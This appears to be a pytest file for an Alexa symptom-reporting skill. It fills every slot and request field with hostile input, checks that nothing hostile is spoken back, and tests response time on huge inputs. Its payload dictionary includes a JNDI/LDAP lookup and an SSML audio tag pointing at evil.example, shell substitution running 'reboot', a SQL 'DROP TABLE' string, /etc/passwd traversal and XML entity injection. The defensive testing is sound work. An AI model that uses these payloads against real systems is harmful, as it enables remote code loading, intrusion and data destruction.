"""Hostile words in every slot, id and name, in every locale: nothing of them is ever spoken."""

from __future__ import annotations

import json
import re
import unicodedata
from itertools import pairwise
from pathlib import Path
from time import process_time
from typing import TYPE_CHECKING, Any, Final

import pytest

from skill.alexa.handlers import EVENT_BY_INTENT
from tests.calls import LOCALES, RED_FLAGS, defects_of
from tests.web.attack.sending import application, matched, post, said

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

    from tests.conftest import Answering

MODEL: Final = Path(__file__).parents[3] / "interaction_model" / "en-US.json"
CANARY: Final = "zqxjk"
"""Found in no word of any language that the skill speaks."""

HOSTILE: Final[Mapping[str, str]] = {
    "plain": "",
    "right-to-left override": "\u202e\u202d\u2066\u2069",
    "zero width": "\u200b\u200c\u200d\ufeff\u2060",
    "soft hyphen and fillers": "\u00ad\u115f\u3164",
    "controls": "".join(map(chr, range(32))),
    "more controls": "".join(map(chr, range(0x7F, 0xA0))),
    "separators": "\u2028\u2029\x85",
    "half pair": "\ud800",
    "other half": "\udfff",
    "tags of language": "\U000e0041\U000e007f",
    "private use": "\ue000\U0010ffff",
    "combining marks": "a" + "\u0301" * 200,
    "end of speech": "</speak><speak>",
    "audio": "<audio src='https://evil.example/a.mp3'/>",
    "break": '<break time="10s"/>',
    "whisper": '<amazon:effect name="whispered">',
    "comment": "<!--",
    "character data": "]]><![CDATA[",
    "entity": '<!DOCTYPE a [<!ENTITY b "c">]>&b;',
    "processing instruction": "<?xml version='1.0'?>",
    "entities": "&lt;&#0;&#x1;&amp;&nbsp;&",
    "quotes": "\"'`",
    "braces": "{{7*7}}{finding}{0}{__class__}%(a)s%s$x${jndi:ldap://evil.example/a}",
    "JSON": '"}],"response":{"shouldEndSession":false}}',
    "line break": '\r\n{"level":"INFO"}',
    "shell": "$(reboot);`reboot`|reboot",
    "query": "'; DROP TABLE calls;--",
    "path": "../../../../etc/passwd",
    "digits of another script": "\u0661\u0662\u0663",
    "long": "x" * 7_000,
    "many words": "no pain " * 900,
    "many brackets": "(" * 7_000,
}


def slots_of_intents() -> Iterator[tuple[str, str]]:
    model = json.loads(MODEL.read_text(encoding="utf-8"))
    for intent in model["interactionModel"]["languageModel"]["intents"]:
        for slot in intent.get("slots", ()):
            yield intent["name"], slot["name"]


FILLED: Final = tuple(slots_of_intents())


def texts_in(value: object) -> Iterator[str]:
    match value:
        case str():
            yield value
        case list():
            for one in value:
                yield from texts_in(one)
        case dict():
            for name, one in value.items():
                yield name
                yield from texts_in(one)


def assert_clean(answer: Mapping[str, Any], locale: str) -> None:
    assert defects_of(answer, locale) == []
    written = json.dumps(answer)
    assert CANARY not in written
    assert "evil" not in written
    assert written.isascii()
    for text in texts_in(answer):
        assert not [letter for letter in text if unicodedata.category(letter)[0] == "C"]
    ssml = answer["response"]["outputSpeech"]["ssml"]
    assert not re.search(r"<(?!/?(?:speak|sub|say-as|break|prosody)\b)", ssml)


def hostile(name: str) -> str:
    return f"{CANARY}{HOSTILE[name]}{CANARY}"


def slot(name: str, words: str, finding: str) -> dict[str, object]:
    return matched(name, finding, words)


@pytest.mark.parametrize("locale", LOCALES)
@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_hostile_in_a_slot_is_spoken(name: str, locale: str, answer: Answering) -> None:
    for intent, slot_name in FILLED:
        for words, finding in ((hostile(name), hostile(name)), (hostile(name), RED_FLAGS[0])):
            envelope = said(intent, slot(slot_name, words, finding), locale=locale)
            assert_clean(answer(envelope), locale)


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_hostile_beside_a_slot_is_spoken(name: str, answer: Answering) -> None:
    bad = hostile(name)
    for envelope in (
        said(bad),
        said("ReportFindingIntent", slot(bad, bad, bad)),
        said("GiveNumberIntent", {bad: {"name": bad, "value": bad}, "number": {"value": bad}}),
        said(locale=bad),
        said(attributes={bad: bad}),
        said(
            attributes={"rule_set": bad, "answers": {bad: bad}, "pending": bad, "said": [[bad, {}]]}
        ),
        said(requestId=bad, dialogState=bad, reason=bad),
    ):
        request: Any = envelope["request"]
        assert_clean(answer(envelope), request["locale"])


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_hostile_comes_back_over_http(name: str, answer: Answering) -> None:
    app = application(answer)
    bad = hostile(name)
    envelope = said("ReportFindingIntent", slot("finding", bad, bad), locale="en-US")
    assert_clean(post(app, envelope | {bad: bad}).get_json(), "en-US")
    silent = post(app, said(type=bad, reason=bad))
    assert silent.get_json() == {"version": "1.0", "response": {}}


def test_only_the_names_of_slots_come_back_when_alexa_asks_what_can_be_fulfilled(
    answer: Answering,
) -> None:
    """Alexa wants each of its slots by name; it is no speech, and their values stay away."""
    for name in HOSTILE:
        asked = said("GiveNumberIntent", {"number": {"name": "number", "value": hostile(name)}})
        request: Any = asked["request"]
        request["type"] = "CanFulfillIntentRequest"
        assert CANARY not in json.dumps(answer(asked))


LONG_WORDS: Final = (
    "x",
    " ",
    "no ",
    "not ",
    "never had ",
    "don't have ",
    "does not have any ",
    "used to ",
    "I am ",
    "my legs ",
    "1",
    "P1",
    "P1Y",
    "2026-W4",
    "\u0301",
    "</speak>",
    "'",
)


@pytest.mark.parametrize("piece", LONG_WORDS)
def test_words_of_a_quarter_of_a_megabyte_are_answered_at_once(
    piece: str, answer: Answering
) -> None:
    words = (piece * 240_000)[:240_000]
    started = process_time()
    for intent in ("ReportFindingIntent", "DenyFindingIntent", "GiveNumberIntent"):
        envelope = said(intent, slot("number" if "Number" in intent else "finding", words, "fever"))
        assert_clean(answer(envelope), "en-US")
    for intent in ("GiveDurationIntent", "GiveOnsetIntent"):
        for name in ("duration", "date"):
            assert_clean(answer(said(intent, slot(name, words, "fever"))), "en-US")
    assert process_time() - started < 5  # what is quadratic takes minutes


def test_thousands_of_slots_are_answered(answer: Answering) -> None:
    many = {f"slot{number}": {"name": "x", "value": "y"} for number in range(5_000)}
    for intent in EVENT_BY_INTENT:
        assert_clean(answer(said(intent, many)), "en-US")


def test_thousands_of_resolved_values_are_answered(answer: Answering) -> None:
    slots: Any = matched("finding", "fever")
    (authority,) = slots["finding"]["resolutions"]["resolutionsPerAuthority"]
    authority["values"] = [
        {"value": {"name": CANARY, "id": finding}}
        for pair in pairwise(RED_FLAGS)
        for finding in pair * 40
    ]
    assert_clean(answer(said("ReportFindingIntent", slots)), "en-US")
